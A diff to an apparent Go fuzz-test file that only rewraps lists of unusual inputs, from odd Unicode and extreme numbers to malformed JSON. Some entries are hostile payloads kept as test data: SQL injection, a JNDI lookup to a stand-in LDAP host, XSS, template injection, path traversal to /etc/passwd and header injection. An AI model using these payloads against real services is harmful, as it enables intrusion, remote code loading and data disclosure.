@@ -58,12 +58,16 @@ func remember(list []string, s string) []string {
 
 // texts are strings that somebody somewhere did not expect.
 var texts = []string{
-	"", " ", "\t\r\n", "\x00", "a\x00b", "\xff\xfe", "\xed\xa0\x80", "\u202egnp", "\ufeff", "é", "e\u0301", "\U0001f3ab", "\U0010ffff",
+	"", " ", "\t\r\n", "\x00", "a\x00b", "\xff\xfe", "\xed\xa0\x80", "\u202egnp", "\ufeff", "é", "e\u0301", "\U0001f3ab",
+	"\U0010ffff",
 	"' OR '1'='1", `"; --`, "1); DROP TABLE x; --", "%", "_", "%%%s%n%x", "\\", "${jndi:ldap://x.example/a}", "{{7*7}}", "#{7*7}",
 	"<script>alert(1)</script>", "../../../etc/passwd", "..\\..\\x", "/dev/null", "\r\nX-Injected: yes", "\nX-Injected: yes\n\n",
-	"null", "undefined", "true", "NaN", "-1", "0", "1e400", "0x10", "9223372036854775808", "-9223372036854775809", "1.7976931348623157e309",
-	"{}", "[]", "__proto__", "constructor", "id", "2026-02-30T25:61:61Z", "Thu, 01 Jan 1970 00:00:00 GMT", "0190a0a0-0000-7000-8000-000000000000",
-	"00000000-0000-0000-0000-000000000000", "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF", "a@b.example, c@d.example", "a@[127.0.0.1]", "@", "mine",
+	"null", "undefined", "true", "NaN", "-1", "0", "1e400", "0x10", "9223372036854775808", "-9223372036854775809",
+	"1.7976931348623157e309",
+	"{}", "[]", "__proto__", "constructor", "id", "2026-02-30T25:61:61Z", "Thu, 01 Jan 1970 00:00:00 GMT",
+	"0190a0a0-0000-7000-8000-000000000000",
+	"00000000-0000-0000-0000-000000000000", "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF", "a@b.example, c@d.example", "a@[127.0.0.1]",
+	"@", "mine",
 	strings.Repeat("x", 201), strings.Repeat("\U0001f3ab", 201), strings.Repeat("ü", 129), strings.Repeat("a.", 200) + "example",
 	strings.Repeat("0", 400), strings.Repeat("%", 300), strings.Repeat("(", 3000), strings.Repeat("x",
 		5000), strings.Repeat("\x00", 50),
@@ -71,12 +75,16 @@ var texts = []string{
 
 // values are JSON, and what looks like it, in any place of a body.
 var values = []string{
-	"null", "true", "false", "0", "-0", "-1", "1", "0.1", "1e400", "-1e400", "1e-400", "1E+400", "1e999999999999", "0e99999999999999999999",
-	"9007199254740993", "9223372036854775807", "9223372036854775808", "18446744073709551616", "-9223372036854775809", "0.30000000000000004",
+	"null", "true", "false", "0", "-0", "-1", "1", "0.1", "1e400", "-1e400", "1e-400", "1E+400", "1e999999999999",
+	"0e99999999999999999999",
+	"9007199254740993", "9223372036854775807", "9223372036854775808", "18446744073709551616", "-9223372036854775809",
+	"0.30000000000000004",
 	strings.Repeat("9", 400), "0." + strings.Repeat("0",
 		400) + "1", "[]", "{}", "[[]]", "[null]", `[{"a":[]}]`, `{"":""}`, `{"a":1,"a":2}`,
-	`""`, `" "`, `"\u0000"`, `"\ud800"`, `"\udc00\ud800"`, `"\uD83C\uDFAB"`, "\"\xff\"", "\"\xc3\x28\"", `"\x"`, `"\u00"`, "\"\n\"", "\"\x00\"", `"`,
-	"NaN", "Infinity", "-Infinity", "01", ".5", "5.", "+1", "0x10", "1_000", "'x'", "nul", "tru", "undefined", "/**/1", "1 //", "[1,]", "[,]", "{,}",
+	`""`, `" "`, `"\u0000"`, `"\ud800"`, `"\udc00\ud800"`, `"\uD83C\uDFAB"`, "\"\xff\"", "\"\xc3\x28\"", `"\x"`, `"\u00"`,
+	"\"\n\"", "\"\x00\"", `"`,
+	"NaN", "Infinity", "-Infinity", "01", ".5", "5.", "+1", "0x10", "1_000", "'x'", "nul", "tru", "undefined", "/**/1", "1 //",
+	"[1,]", "[,]", "{,}",
 	`{"a"}`, `{a:1}`, "[", "{", "]", "}", ",", ":", "",
 	strings.Repeat("[", 1000) + strings.Repeat("]", 1000), strings.Repeat(`{"a":`, 1000) + "1" + strings.Repeat("}", 1000),
 	strings.Repeat("[", 20_000), `"` + strings.Repeat("x", 100_000) + `"`, `[` + strings.Repeat("1,", 20_000) + `1]`,
